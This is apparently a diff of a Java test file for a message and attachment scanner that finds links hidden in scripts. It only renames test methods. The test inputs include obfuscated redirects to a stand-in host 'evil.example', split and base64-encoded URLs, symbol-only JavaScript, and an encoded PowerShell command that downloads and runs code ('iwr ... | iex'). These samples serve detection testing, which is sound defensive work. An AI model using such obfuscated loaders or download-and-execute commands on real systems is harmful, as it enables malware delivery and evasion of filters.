@@ -42,7 +42,7 @@ class ScriptsTest {
                 "x='687474703a2f2f6576696c2e6578616d706c652f78'",
                 "document.write(atob('PGEgaHJlZj0iLy9ldmlsLmV4YW1wbGUveCI+eDwvYT4='))"
             })
-    void literalsAreDecodedOneStep(String script) {
+    void encodedLiteral_isDecoded(String script) {
         ReadMessage body = ReadMessage.html("<p>x</p><script>" + script + "</script>");
         assertTrue(body.holds(Place.SCRIPT, "evil.example"), () -> "" + body);
         ReadMessage file = attached("x.html", "<p>x</p><script>" + script + "</script>");
@@ -51,7 +51,7 @@ class ScriptsTest {
     }
 
     @Test
-    void scriptsOfAttachedFilesAreReadAsTheyStandToo() {
+    void scriptOfAnAttachedFile_isReadUndecodedToo() {
         assertTrue(attached("x.html", "<script>location='http://evil.example'</script>")
                 .holds(Place.SCRIPT_ATTACHMENT, "evil.example"));
         assertTrue(attached("x.js", "GetObject('script:'+'http://evil.example')")
@@ -68,14 +68,14 @@ class ScriptsTest {
                 "var k='aHR0cDovL2V2',m='aWwuZXhhbXBsZS94';location=atob(k+m)",
                 "x={};x.a='http://ev';x.b='il.example';location=a+b"
             })
-    void aNameStandsForTheTextThatWasAssignedToIt(String script) {
+    void variable_isReplacedByItsText(String script) {
         ReadMessage file = attached("x.html", "<p>x</p><script>" + script + "</script>");
         assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
         assertEquals(Set.of(), file.limits());
     }
 
     @Test
-    void namesThatStandForMuchAreBounded() {
+    void expansionOfVariables_isBounded() {
         String doubled = "a='" + "x y".repeat(50) + "';" + "a=a+a;".repeat(30);
         assertEquals(Set.of("scripts"), attached("x.js", doubled).limits());
         String many = java.util.stream.IntStream.range(0, 1_001)
@@ -93,7 +93,7 @@ class ScriptsTest {
                 "<svg><script>location='http://'<!-- x -->+'evil.example'</script></svg>",
                 "<svg><g><script type='a'>var a='http://ev'<![CDATA[;location=a+'il.example']]></script></g></svg>"
             })
-    void scriptsOfDrawingsAreScripts(String svg) {
+    void scriptOfAnSvg_isRead(String svg) {
         ReadMessage file = attached("x.svg", svg);
         assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
     }
@@ -108,7 +108,7 @@ class ScriptsTest {
                 "eval(z)",
                 "x=createElementNS('http://www.w3.org/2000/svg','a');location=f(x)"
             })
-    void aScriptThatActsAndShowsNoLinkIsNamed(String script) {
+    void activeScriptWithoutALink_isOpaque(String script) {
         assertEquals(
                 Set.of("scriptOpaque"),
                 attached("x.html", "<p>x</p><script>" + script + "</script>").limits());
@@ -122,7 +122,7 @@ class ScriptsTest {
     }
 
     @Test
-    void aProgramOfSignsIsNamed() {
+    void scriptOfSymbolsOnly_isOpaque() {
         assertEquals(
                 Set.of("scriptOpaque"),
                 attached("x.html", "<script>" + "[][(![]+[])[+[]]]+".repeat(20) + "[]</script>")
@@ -130,21 +130,21 @@ class ScriptsTest {
     }
 
     @Test
-    void aScriptThatOnlyCountsIsNotNamed() {
+    void harmlessScript_isNotOpaque() {
         assertEquals(
                 Set.of(),
                 attached("x.html", "<script>var n=1;function f(){n++}</script>").limits());
     }
 
     @Test
-    void valuesThatAScriptDecodesAreRead() {
+    void attributeDecodedByAScript_isRead() {
         ReadMessage file =
                 attached("x.html", "<div data-x='aHR0cDovL2V2aWwuZXhhbXBsZS94'></div><script>go(d.dataset.x)</script>");
         assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
     }
 
     @Test
-    void whatAShellDecodesIsRead() {
+    void encodedShellCommand_isRead() {
         String wide = Base64.getEncoder()
                 .encodeToString("iwr http://evil.example/x|iex".getBytes(java.nio.charset.StandardCharsets.UTF_16LE));
         ReadMessage file = attached("run.bat", "powershell -enc " + wide + "\r\n");
@@ -152,7 +152,7 @@ class ScriptsTest {
     }
 
     @Test
-    void whatIsDecodedIsBounded() {
+    void decodedText_isBounded() {
         String piece = "'" + "a b".repeat(100) + "'+'c';";
         assertEquals(Set.of(), attached("x.js", piece.repeat(800)).limits());
         assertEquals(Set.of("scripts"), attached("x.js", piece.repeat(900)).limits());
